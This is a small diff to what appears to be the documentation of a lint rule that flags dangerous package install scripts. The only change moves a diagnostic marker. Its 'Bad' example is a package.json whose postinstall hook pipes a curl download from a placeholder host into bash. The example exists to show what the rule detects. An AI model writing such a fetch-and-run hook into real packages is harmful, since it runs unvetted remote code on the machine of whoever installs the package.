@@ -14,8 +14,8 @@
 //! ## Bad
 //!
 //! ```package
-//! == package.json
-//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "curl -fsSL https://get.invalid/setup.sh | bash"}} //~ here
+//! == package.json //~ 1
+//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "curl -fsSL https://get.invalid/setup.sh | bash"}}
 //! ```
 //!
 //! ```package
